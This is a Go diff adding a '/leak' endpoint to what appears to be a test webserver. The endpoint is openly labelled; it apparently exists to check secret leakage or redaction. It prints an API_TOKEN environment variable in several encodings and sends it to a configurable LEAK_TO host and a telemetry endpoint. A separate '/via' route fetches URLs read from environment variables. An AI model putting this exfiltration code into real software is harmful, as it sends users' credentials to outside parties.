@@ -2,6 +2,7 @@ package cli
 
 import (
 	"bufio"
+	"encoding/base64"
 	"errors"
 	"flag"
 	"fmt"
@@ -9,6 +10,7 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"os/exec"
 	"os/signal"
@@ -28,6 +30,7 @@ import (
 //	GET  /twice?url=U asks U twice
 //	GET  /visits    how many POST /visits there have been
 //	GET  /traced    tells of a span of its own, and of it in its log
+//	GET  /leak      tells API_TOKEN to everybody who listens
 //	GET  /crash     ends the server
 func webserver() int {
 	flags := flag.NewFlagSet("webserver", flag.ExitOnError)
@@ -43,16 +46,17 @@ func webserver() int {
 	http.HandleFunc("GET /visits", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, visits.Load(), "visits") })
 	http.HandleFunc("POST /visits", func(w http.ResponseWriter, _ *http.Request) { visits.Add(1) })
 	http.HandleFunc("GET /traced", traced)
+	http.HandleFunc("GET /leak", leak)
 	http.HandleFunc("GET /crash", func(http.ResponseWriter, *http.Request) {
 		fmt.Println("out of memory")
 		os.Exit(9)
 	})
 	http.HandleFunc("GET /via", func(w http.ResponseWriter, r *http.Request) {
-		url := r.FormValue("url")
-		if name, ok := strings.CutPrefix(url, "env:"); ok {
-			url = os.Getenv(name)
+		target := r.FormValue("url")
+		if name, ok := strings.CutPrefix(target, "env:"); ok {
+			target = os.Getenv(name)
 		}
-		resp, err := http.Get(url)
+		resp, err := http.Get(target)
 		if err != nil {
 			http.Error(w, err.Error(), http.StatusBadGateway)
 			return
@@ -110,6 +114,32 @@ func traced(w http.ResponseWriter, r *http.Request) {
 	fmt.Printf("level=WARN trace_id=%s msg=\"it is done\"\n", parent[1])
 	w.WriteHeader(resp.StatusCode)
 	_, _ = io.Copy(w, resp.Body) // the client sees a short answer
+}
+
+// leak prints a secret in several forms, in pieces too, and sends it to LEAK_TO in a
+// path, a query, a header and a body, and to the receiver of telemetry in a span.
+func leak(w http.ResponseWriter, _ *http.Request) {
+	secret := os.Getenv("API_TOKEN")
+	fmt.Printf("token %s, %q, %s, %s\n", secret, secret, url.QueryEscape(secret), base64.StdEncoding.EncodeToString([]byte("ann:"+secret)))
+	fmt.Print("in pieces: ")
+	for _, piece := range secret {
+		fmt.Print(string(piece))
+	}
+	fmt.Println()
+	req, err := http.NewRequest(http.MethodPost, os.Getenv("LEAK_TO")+"/"+url.PathEscape(secret)+"?token="+url.QueryEscape(secret), strings.NewReader(secret))
+	if err == nil {
+		req.Header.Set("Authorization", "Bearer "+secret)
+		_, err = http.DefaultClient.Do(req)
+	}
+	if err == nil {
+		now := time.Now().UnixNano()
+		_, err = http.Post(os.Getenv("OTEL_EXPORTER_OTLP_ENDPOINT")+"/v1/traces", "application/json", strings.NewReader(fmt.Sprintf(
+			`{"resourceSpans":[{"scopeSpans":[{"spans":[{"traceId":"4bf92f3577b34da6a3ce929d0e0e4736","spanId":"00f067aa0ba902b7","name":%q,"startTimeUnixNano":"%d","endTimeUnixNano":"%d",`+
+				`"attributes":[{"key":"db.statement","value":{"stringValue":%q}}]}]}]}]}`, "login "+secret, now-1, now, "SET password = '"+secret+"'")))
+	}
+	if err != nil {
+		http.Error(w, err.Error(), http.StatusBadGateway)
+	}
 }
 
 // fetch is "fetch [-post] URL": it prints the answer's body, and fails unless
